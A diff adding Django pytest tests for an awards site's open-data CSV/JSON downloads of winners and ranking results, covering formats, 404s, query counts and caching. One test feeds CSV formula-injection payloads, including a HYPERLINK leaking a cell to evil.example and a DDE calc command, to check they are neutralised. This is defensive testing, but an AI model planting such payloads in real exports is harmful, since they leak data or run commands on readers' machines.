@@ -1,0 +1,270 @@
+"""Open data: the downloads page and each published edition's winners and ranking results as
+CSV (UTF-8, header row, no spreadsheet formulas) and JSON (a list of objects), the same in
+both languages; 404 for what is not published; queries that do not grow with the winners; the
+cache. What must not leak is tested in test_public_leaks.py."""
+
+import csv
+import io
+import json
+import re
+from decimal import Decimal as D
+
+import pytest
+from django.conf import settings
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
+
+from candidates.enums import CandidateKind, NominationState
+from candidates.models import Candidate, Category, Edition, Nomination, Regency
+from ceremonies import opendata, services
+from paritrana.public_cache import public_cache_clear
+from scoring.enums import AwardKind
+from scoring.models import Award, RankingSnapshot, RankingSnapshotRow
+
+pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("tasks_in_process")]
+
+BEKASI = "Pemerintah Kota Bekasi"
+
+
+def _download(client, url, language="id"):
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
+    response = client.get(url)
+    assert response.status_code == 200, url
+    return response
+
+
+def _csv(client, url, language="id") -> list[dict]:
+    response = _download(client, url, language)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response.content.startswith("\ufeff".encode())  # so that spreadsheets read UTF-8
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
+
+
+def _json(client, url, language="id") -> list[dict]:
+    response = _download(client, url, language)
+    assert response["Content-Type"] == "application/json"
+    return json.loads(response.content)
+
+
+@pytest.mark.parametrize("language", ["id", "en"])
+def test_open_data_page_lists_the_downloads_of_published_editions(client, published_demo, language):
+    response = _download(client, "/open-data/", language)
+    page = response.content.decode()
+    assert re.findall(r'<tr data-year="(\d+)">', page) == ["2020", "2018"]
+    for year in (2020, 2018):
+        for dataset in ("winners", "results"):
+            for fmt in ("csv", "json"):
+                href = f'href="/open-data/{year}/{dataset}.{fmt}" download data-file'
+                assert href in page
+    assert "/open-data/2021/" not in page
+    assert ", ".join(opendata.WINNERS_FIELDS) in page
+    assert 'data-nav="public:open_data" aria-current="page"' in page
+
+
+def test_winners_csv_of_2020_are_the_national_awards(client, published_demo):
+    response = _download(client, "/open-data/2020/winners.csv")
+    assert response["Content-Disposition"] == 'attachment; filename="paritrana-2020-winners.csv"'
+    text = response.content.decode("utf-8-sig")
+    assert text.splitlines()[0] == ",".join(opendata.WINNERS_FIELDS)
+    bekasi = published_demo["bekasi"]
+    assert (
+        f"2020,national,Pemerintah Kabupaten/Kota,Peringkat III,3,{bekasi.pk},{BEKASI},"
+        '"Kota Bekasi, Jawa Barat",Jawa Barat\r\n'
+    ) in text
+    rows = _csv(client, "/open-data/2020/winners.csv")
+    assert [(r["award"], r["rank"], r["candidate"], r["province"]) for r in rows] == [
+        ("Peringkat I", "1", "Pemerintah Kota Semarang", "Jawa Tengah"),
+        ("Peringkat II", "2", "Pemerintah Kabupaten Banyuwangi", "Jawa Timur"),
+        ("Peringkat III", "3", BEKASI, "Jawa Barat"),
+    ]
+
+
+def test_winners_of_2018_are_the_provincial_labels_of_jawa_barat(client, published_demo):
+    rows = _csv(client, "/open-data/2018/winners.csv")
+    assert {r["level"] for r in rows} == {"provincial"}
+    assert {r["province"] for r in rows} == {"Jawa Barat"}
+    assert [(r["category"], r["award"], r["candidate"]) for r in rows][:5] == [
+        ("Pemerintah Kabupaten/Kota", "Peringkat I", BEKASI),
+        ("Pemerintah Kabupaten/Kota", "Peringkat II", "Pemerintah Kota Bogor"),
+        ("Pemerintah Kabupaten/Kota", "Peringkat III", "Pemerintah Kota Bandung"),
+        ("Pemerintah Kabupaten/Kota", "Harapan I", "Pemerintah Kota Sukabumi"),
+        ("Pemerintah Kabupaten/Kota", "Harapan II", "Pemerintah Kota Cimahi"),
+    ]
+    assert len(rows) == 5 + 6 + 1
+
+
+def test_results_of_2020_are_every_published_national_ranking_row(client, published_demo):
+    rows = _csv(client, "/open-data/2020/results.csv")
+    assert {r["stage"] for r in rows} == {"national_selection", "national_result"}
+    bekasi = [r for r in rows if r["candidate"] == BEKASI]
+    assert bekasi == [
+        {
+            "year": "2020",
+            "stage": "national_selection",
+            "category": "Pemerintah Kabupaten/Kota",
+            "province": "",
+            "rank": "3",
+            "candidate_id": str(published_demo["bekasi"].pk),
+            "candidate": BEKASI,
+            "region": "Kota Bekasi, Jawa Barat",
+            "total": "86.00",
+            "label": "",
+            "advanced": "true",
+        },
+        {
+            "year": "2020",
+            "stage": "national_result",
+            "category": "Pemerintah Kabupaten/Kota",
+            "province": "",
+            "rank": "3",
+            "candidate_id": str(published_demo["bekasi"].pk),
+            "candidate": BEKASI,
+            "region": "Kota Bekasi, Jawa Barat",
+            "total": "86.80",
+            "label": "Peringkat III",
+            "advanced": "true",
+        },
+    ]
+    snapshots = RankingSnapshot.objects.filter(stage__edition__year=2020, reopened_at__isnull=True)
+    assert len(rows) == RankingSnapshotRow.objects.filter(snapshot__in=snapshots).count()
+
+
+def test_results_of_2018_are_jawa_barats_provincial_rankings(client, published_demo):
+    rows = _json(client, "/open-data/2018/results.json")
+    assert {(r["stage"], r["province"]) for r in rows} == {("provincial_assessment", "Jawa Barat")}
+    assert len(rows) == 9 + 6 + 1
+    assert rows[0] == {
+        "year": 2018,
+        "stage": "provincial_assessment",
+        "category": "Pemerintah Kabupaten/Kota",
+        "province": "Jawa Barat",
+        "rank": 1,
+        "candidate_id": published_demo["bekasi"].pk,
+        "candidate": BEKASI,
+        "region": "Kota Bekasi, Jawa Barat",
+        "total": "90.65",
+        "label": "Peringkat I",
+        "advanced": True,
+    }
+
+
+@pytest.mark.parametrize("dataset", ["winners", "results"])
+def test_json_and_csv_hold_the_same_rows_in_both_languages(client, published_demo, dataset):
+    for year in (2020, 2018):
+        as_json = _json(client, f"/open-data/{year}/{dataset}.json")
+        as_csv = _csv(client, f"/open-data/{year}/{dataset}.csv")
+        assert [{k: "" if v is None else str(v).lower() if isinstance(v, bool) else str(v)
+                 for k, v in row.items()} for row in as_json] == as_csv  # fmt: skip
+        for fmt in ("csv", "json"):
+            url = f"/open-data/{year}/{dataset}.{fmt}"
+            assert _download(client, url, "en").content == _download(client, url, "id").content
+
+
+@pytest.mark.parametrize(
+    "url",
+    [
+        "/open-data/2021/winners.csv",
+        "/open-data/2021/results.json",
+        "/open-data/2019/winners.json",
+        "/open-data/2020/secrets.csv",
+        "/open-data/2020/winners.xlsx",
+        "/open-data/2020/winners.csv.json",
+    ],
+)
+def test_unpublished_or_unknown_files_are_404(client, published_demo, url):
+    assert client.get(url).status_code == 404
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("https://evil.example/?leak="&A1,"Klik")',
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)",
+        "\t=1+1",
+    ],
+)
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, published_demo, name):
+    Candidate.objects.filter(pk=published_demo["bekasi"].pk).update(name=name)
+    for dataset in ("winners", "results"):
+        rows = _csv(client, f"/open-data/2020/{dataset}.csv")
+        cells = [
+            r["candidate"] for r in rows if r["candidate_id"] == str(published_demo["bekasi"].pk)
+        ]
+        assert cells and set(cells) == {"'" + name}
+        # JSON is data, not a spreadsheet: the name as it is.
+        assert name in {r["candidate"] for r in _json(client, f"/open-data/2020/{dataset}.json")}
+
+
+def test_neutralise_leaves_other_values_alone():
+    assert [opendata.neutralise(v) for v in ["Kota Bekasi", "86.80", 3, None, "", "a=b"]] == [
+        "Kota Bekasi",
+        "86.80",
+        3,
+        None,
+        "",
+        "a=b",
+    ]
+
+
+def _queries(client, url) -> int:
+    public_cache_clear()
+    with CaptureQueriesContext(connection) as queries:
+        _download(client, url)
+    return len(queries)
+
+
+def test_queries_do_not_grow_with_the_winners(client, published_demo):
+    urls = [f"/open-data/{y}/{d}.{f}" for y in (2020, 2018) for d in ("winners", "results")
+            for f in ("csv", "json")]  # fmt: skip
+    before = {url: _queries(client, url) for url in urls}
+    # Five more national winners in 2020, five more ranked nominees in Jawa Barat 2018.
+    category = Category.objects.get(edition__year=2020, code="pemerintah-kabupaten-kota")
+    free = Regency.objects.filter(candidates__isnull=True).order_by("code")
+    for regency in free.exclude(province_id="32")[:5]:
+        nomination = Nomination.objects.create(
+            candidate=Candidate.objects.create(
+                kind=CandidateKind.REGENCY_GOVERNMENT, regency=regency, name=f"Pemerintah {regency}"
+            ),
+            category=category,
+            state=NominationState.AWARDED,
+        )
+        Award.objects.create(
+            category=category,
+            nomination=nomination,
+            kind=AwardKind.SPECIAL,
+            title="Penghargaan Khusus",
+            reason="Inovasi.",
+        )
+    snapshot = RankingSnapshot.objects.get(
+        stage__edition__year=2018, panel__province="32", category__code="pemerintah-kabupaten-kota"
+    )
+    for i, regency in enumerate(free.filter(province_id="32")[:5], start=10):
+        nomination = Nomination.objects.create(
+            candidate=Candidate.objects.create(
+                kind=CandidateKind.REGENCY_GOVERNMENT, regency=regency, name=f"Pemerintah {regency}"
+            ),
+            category=snapshot.category,
+            state=NominationState.NOT_ADVANCED,
+        )
+        RankingSnapshotRow.objects.create(
+            snapshot=snapshot, nomination=nomination, rank=i, total=D("40.00"), label="harapan_3"
+        )
+    assert len(_csv(client, "/open-data/2020/winners.csv")) == 3 + 5
+    assert len(_csv(client, "/open-data/2018/results.csv")) == 16 + 5
+    assert {url: _queries(client, url) for url in urls} == before
+
+
+def test_downloads_are_cached_and_cleared_on_publish(
+    client, demo, django_assert_num_queries, django_capture_on_commit_callbacks
+):
+    assert client.get("/open-data/2020/winners.csv").status_code == 404
+    with django_capture_on_commit_callbacks(execute=True):
+        services.results_publish(actor=None, edition=Edition.objects.get(year=2020))
+    first = _download(client, "/open-data/2020/winners.csv")
+    with django_assert_num_queries(0):
+        second = _download(client, "/open-data/2020/winners.csv")
+    assert second.content == first.content
+    assert second["Content-Disposition"] == first["Content-Disposition"]
+    assert second["Content-Type"] == "text/csv; charset=utf-8"
